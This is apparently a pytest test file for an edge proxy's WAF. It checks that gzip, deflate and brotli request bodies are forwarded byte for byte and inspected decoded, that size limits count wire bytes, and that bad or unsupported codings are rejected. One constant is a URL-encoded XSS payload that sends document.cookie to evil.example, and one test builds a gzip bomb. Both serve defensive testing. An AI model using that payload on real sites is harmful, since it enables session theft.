"""Compressed request bodies: forwarded byte for byte, limited by what is
sent, and inspected by the WAF decoded (RFC 9110 §8.4)."""
from __future__ import annotations

import dataclasses
import gzip
import zlib

import brotli
import pytest

from edge.config import default_config
from tests.origin_support import Origin


@pytest.fixture
async def raw_origin():
    """An origin that records request bodies exactly as they arrive."""
    o = Origin(auto_decompress=False)
    o.respond("/*", "saved")
    await o.start()
    yield o
    await o.stop()


COMPRESS = {"gzip": gzip.compress, "deflate": zlib.compress, "br": brotli.compress}
ATTACK = b"title=x&body=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E"
BENIGN = b"title=hello&body=" + b"a+perfectly+ordinary+comment+" * 200
FORM = {"Host": "shop.example", "Content-Type": "application/x-www-form-urlencoded"}


def site(url: str) -> dict:
    return {"shop": {"hosts": ["shop.example"], "origins": [{"url": url}], "filters": {"waf": {"mode": "block"}}}}


@pytest.mark.parametrize("coding", COMPRESS)
async def test_a_compressed_body_reaches_the_origin_byte_for_byte(make_edge, client, raw_origin, coding):
    edge = await make_edge(policies=site(raw_origin.url))
    sent = COMPRESS[coding](BENIGN)
    async with client.post(f"{edge.url}/api/posts", data=sent, headers={**FORM, "Content-Encoding": coding}) as r:
        assert r.status == 200 and await r.text() == "saved"
    headers, body = raw_origin.requests[-1]["headers"], raw_origin.requests[-1]["body"]
    assert body == sent
    assert headers["Content-Encoding"] == coding and headers["Content-Length"] == str(len(sent))


@pytest.mark.parametrize("coding", [*COMPRESS, "br, gzip"])
async def test_the_waf_reads_a_compressed_body_decoded(make_edge, client, raw_origin, coding):
    edge = await make_edge(policies=site(raw_origin.url))
    sent = ATTACK
    for name in coding.split(", "):
        sent = COMPRESS[name](sent)
    async with client.post(f"{edge.url}/api/posts", data=sent, headers={**FORM, "Content-Encoding": coding}) as r:
        assert r.status == 403 and "filter.waf" in r.headers["Cache-Status"]
    assert raw_origin.requests == []


@pytest.mark.parametrize("coding", ["gzip", "br", "deflate"])
async def test_a_body_that_does_not_decode_is_400(make_edge, client, raw_origin, coding):
    edge = await make_edge(policies=site(raw_origin.url))
    async with client.post(f"{edge.url}/api/posts", data=b"\xff" * 64 + ATTACK,
                           headers={**FORM, "Content-Encoding": coding}) as r:
        assert r.status == 400 and "bad-body-encoding" in r.headers["Cache-Status"]
        assert f"not valid {coding}" in await r.text()
    assert raw_origin.requests == []


async def test_body_limits_count_the_bytes_sent_not_decoded(make_edge, client, raw_origin):
    limits = dataclasses.replace(default_config().limits, max_body_size=100_000)
    edge = await make_edge(policies=site(raw_origin.url), limits=limits)
    bomb = gzip.compress(b"\0" * 20_000_000)  # 20 KB on the wire
    async with client.post(f"{edge.url}/upload", data=bomb, headers={**FORM, "Content-Encoding": "gzip"}) as r:
        assert r.status == 200
    assert raw_origin.requests[-1]["body"] == bomb
    async with client.post(f"{edge.url}/upload", data=b"x" * 100_001, headers=FORM) as r:
        assert r.status == 413


async def test_a_payload_in_a_second_gzip_member_is_seen(make_edge, client, raw_origin):
    edge = await make_edge(policies=site(raw_origin.url))
    sent = gzip.compress(b"title=hi&") + gzip.compress(ATTACK)
    async with client.post(f"{edge.url}/api/posts", data=sent, headers={**FORM, "Content-Encoding": "gzip"}) as r:
        assert r.status == 403
    assert raw_origin.requests == []


@pytest.mark.parametrize("coding", ["zstd", "gzip, gzip, gzip, gzip, gzip"])
async def test_a_coding_the_waf_cannot_read_is_415(make_edge, client, raw_origin, coding):
    edge = await make_edge(policies=site(raw_origin.url))
    async with client.post(f"{edge.url}/api/posts", data=ATTACK, headers={**FORM, "Content-Encoding": coding}) as r:
        assert r.status == 415 and "unsupported-body-encoding" in r.headers["Cache-Status"]
    assert raw_origin.requests == []


async def test_a_waf_on_trial_refuses_no_coding(make_edge, client, raw_origin):
    policies = {"shop": {"hosts": ["shop.example"], "origins": [{"url": raw_origin.url}],
                         "filters": {"waf": {"mode": "log"}}}}
    edge = await make_edge(policies=policies)
    for coding, data in (("zstd", b"zstd bytes"), ("gzip", b"not gzip at all")):
        async with client.post(f"{edge.url}/api/posts", data=data, headers={**FORM, "Content-Encoding": coding}) as r:
            assert r.status == 200
        assert raw_origin.requests[-1]["body"] == data
